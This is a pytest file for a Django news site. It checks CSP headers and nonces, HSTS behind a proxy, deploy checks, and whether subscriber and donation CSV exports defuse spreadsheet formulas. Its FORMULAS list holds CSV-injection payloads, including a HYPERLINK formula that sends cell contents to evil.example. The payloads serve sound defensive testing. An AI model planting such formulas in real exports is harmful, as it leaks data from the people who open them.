"""Headers and settings: a Content-Security-Policy on every page (cached ones included), no inline
script without a nonce, HSTS behind the TLS proxy, `check --deploy` clean under the documented
production settings, and CSV exports that spreadsheets open as data."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import secrets
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.management import call_command
from django.core.signals import request_finished, request_started
from django.db import close_old_connections

from pressroom.newsletter.models import Subscriber
from tests.test_page_cache_wsgi import serve
from tests.test_startup import REPOSITORY, clean_env, run_pressroom

CSP = "Content-Security-Policy"
FORMULAS = ['=HYPERLINK("https://evil.example?"&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "\r=1"]


def directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}


@pytest.fixture
def site(db, make_article, topic, settings, tmp_path):
    settings.PAGE_CACHE_GENERATION_FILE = str(tmp_path / "page-cache-generation")
    from pressroom.fundraising.demo import create_demo_campaign

    create_demo_campaign()  # a running campaign: pages carry the banner and its script
    return make_article("Miners march on Lima", topics=[topic])


def banner_script_source() -> str:
    digest = hashlib.sha256(settings.CAMPAIGN_BANNER_SCRIPT.encode()).digest()
    return f"'sha256-{base64.b64encode(digest).decode()}'"


BANNER_SCRIPT_SOURCE = banner_script_source()


def test_every_public_page_has_a_policy_without_a_nonce_and_scripts_only_from_the_site(
    client, site, topic
):
    pages = [
        "/",
        site.get_absolute_url(),
        topic.get_absolute_url(),
        "/topics/",
        "/digest/",
        "/donate/",
        "/search/?q=lima",
        "/no-such-page/",
        "/feed/",
    ]
    for path in pages:
        response = client.get(path)
        assert response.status_code in {200, 404}, path
        policy = directives(response[CSP])
        # No nonce, nothing from elsewhere, and of inline scripts only the banner's, by its hash.
        assert policy["script-src"] == ["'self'", BANNER_SCRIPT_SOURCE], path
        assert policy["object-src"] == ["'none'"]
        assert policy["base-uri"] == ["'none'"]
        assert policy["frame-ancestors"] == ["'none'"]
        assert "https://www.youtube.com" in policy["frame-src"]
        assert "'unsafe-inline'" not in policy["script-src"]


def test_a_cached_page_carries_the_same_policy_through_the_middleware_and_the_wsgi_front(
    client, site, topic
):
    first = client.get(topic.get_absolute_url())
    second = client.get(topic.get_absolute_url())
    assert second["X-Page-Cache"] == "hit"
    assert second[CSP] == first[CSP]
    assert "nonce" not in second[CSP]

    # The WSGI front (`pressroom serve`) answers from the stored page before Django runs.
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        answers = [serve(site.get_absolute_url()) for _ in range(2)]
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)
    assert [headers["X-Page-Cache"] for _, headers, _ in answers] == ["miss", "hit"]
    assert answers[1][1][CSP] == answers[0][1][CSP] == first[CSP]


def test_the_admin_gets_a_fresh_nonce_and_its_inline_scripts_carry_it(admin_client, site):
    nonces = []
    for path in ["/admin/", "/admin/publishing/article/add/", "/admin/publishing/topic/add/"]:
        response = admin_client.get(path)
        assert response.status_code == 200, path
        match = re.search(r"'nonce-([^']+)'", " ".join(directives(response[CSP])["script-src"]))
        assert match, (path, response[CSP])
        nonces.append(match.group(1))
        page = response.content.decode()
        for script in re.findall(r"<script\b[^>]*>", page):
            assert "src=" in script or f'nonce="{match.group(1)}"' in script, (path, script)
    assert len(set(nonces)) == len(nonces)


def test_no_template_has_an_inline_script_or_an_event_handler_attribute():
    inline_script = re.compile(r"<script\b(?![^>]*\bsrc=)(?![^>]*application/ld\+json)[^>]*>", re.I)
    handler = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.I)
    offenders = []
    for template in (REPOSITORY / "pressroom").rglob("templates/**/*.html"):
        text = template.read_text()
        # The campaign banner's script is inline by design, allowed by the hash of its text.
        if template.name == "_banner.html" and "<script>{{ script }}</script>" in text:
            text = text.replace("<script>{{ script }}</script>", "")
        if inline_script.search(text) and "csp_nonce" not in text:
            offenders.append(f"{template}: inline <script> without a nonce")
        if handler.search(text):
            offenders.append(f"{template}: on* attribute")
    assert offenders == []


def test_hsts_and_the_https_redirect_only_behind_the_tls_proxy_with_an_https_site_url(tmp_path):
    code = (
        "import django; django.setup(); from django.conf import settings as s;"
        "print(s.SECURE_HSTS_SECONDS, s.SECURE_SSL_REDIRECT)"
    )
    base = {"SECRET_KEY": secrets.token_urlsafe(50), "PRESSROOM_VAR_DIR": str(tmp_path)}
    for variables, expected in [
        ({"BEHIND_TLS_PROXY": "true", "SITE_URL": "https://news.example.org"}, "31536000 True"),
        ({"BEHIND_TLS_PROXY": "true", "SITE_URL": "http://news.example.org"}, "0 False"),
        ({"SITE_URL": "https://news.example.org"}, "0 False"),
    ]:
        result = run_pressroom("shell", "-c", code, env=clean_env(**base, **variables))
        assert result.returncode == 0, result.stderr
        assert result.stdout.strip().splitlines()[-1] == expected, variables


def test_an_https_request_through_the_proxy_gets_hsts(client, settings, db):
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.SECURE_HSTS_SECONDS = 31536000
    response = client.get("/topics/", headers={"X-Forwarded-Proto": "https"})
    assert response["Strict-Transport-Security"].startswith("max-age=31536000")


def documented_production_env() -> dict[str, str]:
    """.env.example, the settings docs/deploy.md tells operators to start from, with a secret."""
    variables = {}
    for line in (REPOSITORY / ".env.example").read_text().splitlines():
        name, equals, value = line.partition("=")
        if equals and value and not line.startswith("#"):
            variables[name.strip()] = value.strip()
    variables["SECRET_KEY"] = secrets.token_urlsafe(50)
    return variables


def test_check_deploy_is_clean_under_the_documented_production_settings(tmp_path):
    env = clean_env(**{**documented_production_env(), "PRESSROOM_VAR_DIR": str(tmp_path)})
    result = run_pressroom("check", "--deploy", "--fail-level", "WARNING", env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout


def test_the_subscriber_export_defuses_spreadsheet_formulas(db, tmp_path):
    for number, formula in enumerate(FORMULAS):
        Subscriber.objects.create(email=f"{formula}{number}@example.org")
    target = tmp_path / "subscribers.csv"
    call_command(
        "export_subscribers", "-o", str(target), stdout=io.StringIO(), stderr=io.StringIO()
    )
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert row["email"].startswith("'"), row
    stdout = io.StringIO()
    call_command("export_subscribers", stdout=stdout)
    assert all(
        row["email"].startswith("'") for row in csv.DictReader(io.StringIO(stdout.getvalue()))
    )


def test_the_donations_export_defuses_spreadsheet_formulas(admin_client, db):
    from pressroom.fundraising import services

    for number, formula in enumerate(FORMULAS):
        services.record_offline_donation(
            email=f"donor{number}@example.org",
            name=formula,
            amount=Decimal("10"),
            currency="USD",
            method="cheque",
            reference=f"{formula}-{number}",
            campaign=None,
            send_receipt=False,
        )
    response = admin_client.get("/admin/fundraising/campaign/reports/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert row["reference"].startswith("'"), row
        # Names are stored stripped of surrounding space; the rest start with a formula sign.
        assert row["donor_name"].startswith("'") or row["donor_name"] == "x", row
        assert row["amount"] == "10.00"


def test_the_lib_helper_leaves_ordinary_cells_alone():
    from pressroom.lib.spreadsheets import safe_cell

    assert safe_cell("Dana Donor") == "Dana Donor"
    assert safe_cell(Decimal("25.50")) == "25.50"
    assert safe_cell(None) == ""
    assert [safe_cell(formula)[0] for formula in FORMULAS] == ["'"] * len(FORMULAS)


def test_every_exported_cell_is_quoted_so_a_semicolon_cannot_start_a_formula():
    """Excel in ;-separator locales splits an unquoted `Dana;=HYPERLINK(…)` into two cells."""
    from pressroom.lib.spreadsheets import stream_rows

    line = "".join(stream_rows([["Dana;=HYPERLINK(B2);", 25]]))
    assert line.startswith('"Dana;=HYPERLINK(B2);","25"')
    assert next(csv.reader(io.StringIO(line))) == ["Dana;=HYPERLINK(B2);", "25"]
